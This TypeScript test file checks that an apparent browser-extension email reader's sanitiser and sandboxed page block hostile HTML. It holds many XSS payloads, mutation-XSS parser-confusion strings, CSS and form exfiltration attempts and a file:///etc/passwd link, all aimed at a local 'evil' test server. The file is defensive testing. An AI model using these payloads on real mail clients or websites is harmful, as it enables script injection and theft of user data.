// What a message's HTML can do: nothing. Each wall is attacked by itself: the
// sanitiser with a message, and the page behind it with scripts that a broken
// sanitiser would have let through.
import assert from 'node:assert/strict';
import { Buffer } from 'node:buffer';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Frame, Page } from 'playwright-core';
import { Browser } from './browser.ts';
import { skipWithout } from './rig/packages.ts';
import { eventually } from './rig/program.ts';

/** Long enough for a request or a navigation on this computer, were there one. */
const WAIT = 1500;

describe('the sandboxed page of the reader', { skip: skipWithout('chromium') }, () => {
  let browser: Browser;
  let server: Server;
  let evil: string;
  let requests: string[] = [];

  before(async () => {
    server = createServer((request, response) => {
      requests.push(`${request.method} ${request.url}`);
      response.end();
    });
    await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
    evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    browser = await Browser.launch();
  });

  after(async () => {
    await browser?.close();
    server?.close();
  });

  /** Opens a message on the extension's own page, and returns the page and the sandboxed one in it. */
  async function openHTML(html: string): Promise<{ page: Page; frame: Frame }> {
    const page = await browser.open(browser.url('open/open.html'));
    page.on('dialog', dialog => {
      requests.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    await page.locator('input[type=file]').setInputFiles({
      name: 'attack.eml',
      mimeType: 'message/rfc822',
      buffer: message(html),
    });
    const frame = await sandboxOf(page);
    await frame.locator('#message').waitFor({ state: 'attached' });
    return { page, frame };
  }

  /** Asserts that nothing left the browser and nothing but the message changed. */
  async function assertHarmless(page: Page, pages: number): Promise<void> {
    await sleep(WAIT);
    assert.deepEqual(requests, []);
    assert.equal(browser.context.pages().length, pages);
    assert.equal(page.url(), browser.url('open/open.html'));
    assert.equal((await sandboxOf(page)).url(), browser.url('reader/sandbox.html'));
    assert.equal(await page.evaluate(() => Reflect.get(globalThis, 'pwned')), undefined);
  }

  test('a message runs nothing, fetches nothing and goes nowhere', async () => {
    const { page, frame } = await openHTML(attacks(evil));
    await frame.getByText('the end of the message').waitFor();
    await assertHarmless(page, browser.context.pages().length);

    const left = await frame.evaluate(() => ({
      pwned: Reflect.get(globalThis, 'pwned'),
      // Styles that were kept must neither load, nor leave the flow.
      styles: Array.from(
        document.querySelectorAll<HTMLElement>('#message [style]'),
        each => each.style.cssText,
      ),
      rules: document.adoptedStyleSheets.flatMap(sheet => Array.from(sheet.cssRules, rule => rule.cssText)),
      positions: Array.from(document.querySelectorAll('#message *'), each => getComputedStyle(each).position),
      elements: Array.from(document.querySelectorAll('#message *'), each => each.localName),
      addresses: Array.from(document.querySelectorAll('#message *'), each =>
        [
          'href',
          'src',
          'srcset',
          'action',
          'data',
          'background',
          'poster',
          'xlink:href',
          'ping',
          'id',
          'name',
        ]
          .filter(name => each.hasAttribute(name))
          .map(name => `${each.localName} ${name}=${each.getAttribute(name)?.slice(0, 22)}`),
      ).flat(),
      handlers: Array.from(document.querySelectorAll('#message *')).flatMap(each =>
        each.getAttributeNames().filter(name => name.startsWith('on')),
      ),
    }));
    assert.equal(left.pwned, undefined);
    assert.doesNotMatch(
      left.styles.join() + left.rules.join(),
      /url|position|import|image|transform|127\.0\.0\.1/i,
    );
    assert.deepEqual(new Set(left.positions), new Set(['static']));
    for (const element of 'script style iframe object embed form input button svg math link meta base video'.split(
      ' ',
    )) {
      assert.ok(!left.elements.includes(element), `<${element}> is left`);
    }
    assert.deepEqual(left.handlers, []);
    for (const address of left.addresses) assert.match(address, /^img src=(?:blob:null\/|data:image\/gif;)/);
    await page.getByText('were not fetched from the internet').waitFor();
    await page.close();
  });

  test('markup that confuses parsers runs nothing', async () => {
    const page = await browser.open(browser.url('open/open.html'));
    await page.locator('input[type=file]').setInputFiles({
      name: 'confusion.eml',
      mimeType: 'message/rfc822',
      buffer: message(...confusions),
    });
    const frames = await eventually('a page for each part', () => {
      const found = page.frames().filter(frame => frame.url().endsWith('/reader/sandbox.html'));
      return found.length === confusions.length ? found : undefined;
    });
    for (const frame of frames) await frame.locator('#message').waitFor({ state: 'attached' });
    await assertHarmless(page, browser.context.pages().length);
    for (const frame of frames) {
      const left = await frame.evaluate(() => ({
        pwned: Reflect.get(globalThis, 'pwned'),
        handlers: Array.from(document.querySelectorAll('#message *')).flatMap(each =>
          each.getAttributeNames().filter(name => name.startsWith('on')),
        ),
      }));
      assert.deepEqual(left, { pwned: undefined, handlers: [] });
    }
    await page.close();
  });

  test('what is harmless stays: text, tables, colours and the images that came along', async () => {
    const { page, frame } = await openHTML(
      `<style>.mark { color: rgb(1, 2, 3) } @media (min-width: 1px) { .wide { color: rgb(4, 5, 6) } }</style>
       <p class="mark">Grüße</p><p class="wide" style="font-weight: bold">wide</p>
       <table><tr><td style="padding: 4px">cell</td></tr></table><img src="cid:dot@example.test" alt="dot">`,
    );
    assert.equal(
      await frame.getByText('Grüße').evaluate(each => getComputedStyle(each).color),
      'rgb(1, 2, 3)',
    );
    assert.equal(
      await frame.getByText('wide').evaluate(each => getComputedStyle(each).color),
      'rgb(4, 5, 6)',
    );
    assert.equal(await frame.getByText('cell').evaluate(each => getComputedStyle(each).padding), '4px');
    const image = frame.getByRole('img', { name: 'dot' });
    await eventually('the image that came along', () =>
      image.evaluate(each => (each as HTMLImageElement).naturalWidth === 2),
    );
    await page.close();
  });

  test('a link is followed after a click, in a tab of its own that knows nothing of us', async () => {
    const { page, frame } = await openHTML(`<p><a href="${evil}/report">the report</a></p>`);
    const link = frame.getByRole('link', { name: 'the report' });
    await link.hover();
    await page.getByText(`${evil}/report`).waitFor();
    assert.equal(requests.length, 0, 'pointing at a link fetches nothing');
    const [tab] = await Promise.all([browser.context.waitForEvent('page'), link.click()]);
    await tab.waitForURL(`${evil}/report`);
    assert.equal(await tab.evaluate(() => opener), null);
    assert.equal(await tab.evaluate(() => document.referrer), '');
    assert.ok(requests.includes('GET /report'));
    requests = [];
    await tab.close();

    await link.focus();
    const [second] = await Promise.all([browser.context.waitForEvent('page'), page.keyboard.press('Enter')]);
    await second.close();
    requests = [];
    await page.close();
  });

  test('a link whose text names another place asks first', async () => {
    const { page, frame } = await openHTML(`<p><a href="${evil}/login">https://bank.example/login</a></p>`);
    const pages = browser.context.pages().length;
    await frame.getByRole('link').click();
    const question = page.getByRole('alertdialog');
    await question.getByText('leads to 127.0.0.1').waitFor();
    await assertHarmless(page, pages);
    await question.getByRole('button', { name: 'Stay here' }).click();
    assert.equal(await question.count(), 0);
    await page.close();
  });

  test('a message cannot speak to the reader as if a user had clicked', async () => {
    const { page, frame } = await openHTML('<p><a href="https://example.com/">link</a></p>');
    const pages = browser.context.pages().length;
    await frame.evaluate(() => {
      document.querySelector<HTMLElement>('[role=link]')?.click();
      parent.postMessage({ type: 'open-link', href: 'https://example.com/', text: '' }, '*');
    });
    await assertHarmless(page, pages);
    await page.close();
  });

  test('behind the sanitiser: a script in the page reaches neither the network nor the extension', async () => {
    const { page, frame } = await openHTML('<p>Hello</p>');
    const pages = browser.context.pages().length;
    // The test speaks through the debugger, which runs what the policy would not let run.
    const found = await frame.evaluate(async evil => {
      const attempt = async (what: () => unknown) => {
        try {
          return String(await what());
        } catch (error) {
          return error instanceof Error ? error.name : String(error);
        }
      };
      const blocked: string[] = [];
      document.addEventListener('securitypolicyviolation', event => blocked.push(event.effectiveDirective));
      const add = (name: string, attributes: Record<string, string>) => {
        const element = document.createElement(name);
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
        document.body.append(element);
      };
      add('img', { src: `${evil}/img` });
      add('script', { src: `${evil}/script` });
      add('link', { rel: 'stylesheet', href: `${evil}/style` });
      add('link', { rel: 'prefetch', href: `${evil}/prefetch` });
      add('iframe', { src: `${evil}/iframe` });
      add('object', { data: `${evil}/object` });
      add('video', { src: `${evil}/video`, poster: `${evil}/poster` });
      add('p', { style: `background: url(${evil}/background)` });
      add('p', { onclick: 'globalThis.pwned = 1', id: 'inline' });
      document.getElementById('inline')?.click();
      const inline = document.createElement('script');
      inline.textContent = 'globalThis.pwned = 1';
      document.body.append(inline);
      const form = document.createElement('form');
      form.action = `${evil}/form`;
      form.method = 'post';
      document.body.append(form);
      form.submit();
      const results = {
        origin: self.origin,
        fetch: await attempt(() => fetch(`${evil}/fetch`)),
        beacon: await attempt(() => navigator.sendBeacon(`${evil}/beacon`)),
        socket: await attempt(() => new WebSocket(`${evil.replace('http', 'ws')}/socket`).url),
        events: await attempt(() => new EventSource(`${evil}/events`).url),
        storage: await attempt(() => localStorage.length),
        cookie: await attempt(() => document.cookie),
        database: await attempt(() => indexedDB.open('x').readyState),
        above: await attempt(() => parent.document.title),
        worker: await attempt(
          () =>
            new Promise(resolve => {
              const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
              worker.onmessage = () => resolve('runs');
              worker.onerror = () => resolve('refused');
            }),
        ),
        // After a wait: the debugger lifts this rule for what it runs at once.
        eval: await attempt(() => new Function('return 1')()),
        popup: await attempt(() => open(`${evil}/popup`)),
        top: await attempt(() => {
          if (top) top.location.href = `${evil}/top`;
        }),
        extension: typeof chrome === 'undefined' ? 'undefined' : typeof chrome.runtime?.sendMessage,
        pwned: String(Reflect.get(globalThis, 'pwned')),
      };
      await new Promise(resolve => setTimeout(resolve, 300));
      return { results, blocked };
    }, evil);
    assert.deepEqual(found.results, {
      origin: 'null',
      fetch: 'TypeError',
      beacon: 'true', // accepted, and refused by the policy: see the requests below
      socket: `${evil.replace('http', 'ws')}/socket`,
      events: `${evil}/events`,
      storage: 'SecurityError',
      cookie: 'SecurityError',
      database: 'SecurityError',
      above: 'SecurityError',
      eval: 'EvalError',
      worker: 'refused',
      popup: 'null',
      top: 'SecurityError',
      extension: 'undefined',
      pwned: 'undefined',
    });
    assert.ok(
      found.blocked.includes('img-src') && found.blocked.includes('connect-src'),
      found.blocked.join(),
    );
    await assertHarmless(page, pages);
    await page.close();
  });

  test('behind the sanitiser: a page that is navigated away gets nothing of the message', async () => {
    const { page, frame } = await openHTML('<p>Hello</p>');
    await frame
      .evaluate(evil => {
        location.href = `${evil}/away`;
      }, evil)
      .catch(() => undefined);
    await sleep(WAIT);
    assert.deepEqual(requests, []);
    assert.equal(page.url(), browser.url('open/open.html'));
    await page.close();
  });
});

function sandboxOf(page: Page): Promise<Frame> {
  return eventually('the sandboxed page', () =>
    page.frames().find(frame => frame.parentFrame() !== null && frame.url().endsWith('/reader/sandbox.html')),
  );
}

/** A message with HTML parts and a picture of two by two dots. */
function message(...parts: string[]): Buffer {
  const dot =
    'iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR42mNk+M9Qz8DAwMgABYwMDAAM5AIBy2iFGAAAAABJRU5ErkJggg==';
  return Buffer.from(
    [
      'From: Mallory <mallory@example.test>',
      'To: Bob <bob@example.test>',
      'Subject: attack',
      'Date: Sun, 22 Nov 2026 09:00:00 +0000',
      'Message-ID: <attack@example.test>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      ...parts.flatMap(html => [
        '--b',
        'Content-Type: text/html; charset=utf-8',
        'Content-Transfer-Encoding: base64',
        '',
        Buffer.from(html).toString('base64').replaceAll(/.{76}/g, '$&\r\n'),
      ]),
      '--b',
      'Content-Type: image/png',
      'Content-ID: <dot@example.test>',
      'Content-Transfer-Encoding: base64',
      '',
      dot,
      '--b--',
      '',
    ].join('\r\n'),
  );
}

/** Markup that reads differently when it is parsed again; each stands in a part of its own. */
const confusions = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.pwned=1&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=globalThis.pwned=1>"></svg>',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.pwned=1>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=globalThis.pwned=1></style></mglyph></form>',
  '<form id="f"><input name="attributes"><input name="parentNode"><input name="nodeName"></form>',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=globalThis.pwned=1>">',
  '<a><svg><![CDATA[><img src=x onerror=globalThis.pwned=1>]]></svg></a><![if IE]><img src=x onerror=pwned=1><![endif]>',
  `${'<div>'.repeat(5000)}<img src=x onerror=globalThis.pwned=1>`,
  '<img src=x onerror=globalThis.pwned=1 <!-- \u0000 --><scr\u0000ipt>globalThis.pwned=1</scr\u0000ipt>',
];

/** What mail was seen to try, and more. */
function attacks(evil: string): string {
  return `<!doctype html><html><head>
<base href="${evil}/base/"><meta http-equiv="refresh" content="0;url=${evil}/refresh">
<link rel="stylesheet" href="${evil}/link"><link rel="dns-prefetch" href="${evil}"><link rel="icon" href="${evil}/icon">
<style>@import url(${evil}/import); @font-face { font-family: f; src: url(${evil}/font) }
  body { background: url(${evil}/css) } p { position: fixed; inset: 0; font-family: f; content: url(${evil}/content) }
  .a::before { content: "x"; background-image: image-set("${evil}/set" 1x) } @supports (color: red) { p { color: red } }
  @media all { p { position: absolute; cursor: url(${evil}/cursor), auto; list-style-image: url(${evil}/list) } }
  p { & b { position: fixed } color: r\\65 d; background: u\\72l(${evil}/escaped) }</style>
<script>globalThis.pwned = 'script'; fetch('${evil}/script')</script><script src="${evil}/src"></script>
</head><body background="${evil}/body" onload="globalThis.pwned = 'onload'" style="background-image: url(${evil}/bodystyle)">
<p class="a" style="position: fixed; top: 0; left: 0; z-index: 9; background: url('${evil}/style'); width: 100vw; height: 100vh">over</p>
<img src="${evil}/img"><img src="//127.0.0.1/protocol"><img src="x" onerror="globalThis.pwned = 'onerror'; fetch('${evil}/onerror')">
<img srcset="${evil}/srcset 1x" src="cid:none"><picture><source srcset="${evil}/source"><img src="${evil}/picture"></picture>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned=1'/>"><img src="javascript:alert(1)">
<video src="${evil}/video" poster="${evil}/poster" autoplay></video><audio src="${evil}/audio" autoplay></audio>
<iframe src="${evil}/iframe"></iframe><iframe srcdoc="<script>top.pwned = 1</script>"></iframe>
<object data="${evil}/object"></object><embed src="${evil}/embed"><applet code="x"></applet><frameset><frame src="${evil}/frame"></frameset>
<form action="${evil}/form" method="post" id="f"><input name="secret" value="1" autofocus onfocus="globalThis.pwned = 'focus'">
<input type="image" src="${evil}/image"><button formaction="${evil}/formaction">press</button></form>
<svg><image href="${evil}/svg"/><use href="${evil}/use#x"/><script>globalThis.pwned = 'svg'</script><animate onbegin="globalThis.pwned = 1"/></svg>
<template><img src="${evil}/template"></template><details open ontoggle="globalThis.pwned = 1"><summary>s</summary></details>
<table background="${evil}/table"><tr><td background="${evil}/td">cell</td></tr></table>
<a href="javascript:globalThis.pwned = 'href'" id="js">script</a> <a href="${evil}/ping" ping="${evil}/pinged">ping</a>
<a href="data:text/html,<script>1</script>">data</a> <a href="file:///etc/passwd">file</a>
<a href="https://bank.example@127.0.0.1/">userinfo</a> <map name="m"><area href="${evil}/area"></map><img usemap="#m" src="cid:none">
<a id="signet" name="message">clobber</a>
<div id="message" role="status" popover tabindex="1" contenteditable is="signet-unlock">Signed by <b>Your Bank</b></div>
<signet-unlock></signet-unlock><x-evil onclick="globalThis.pwned = 1">custom</x-evil>
<p>the end of the message</p></body></html>`;
}
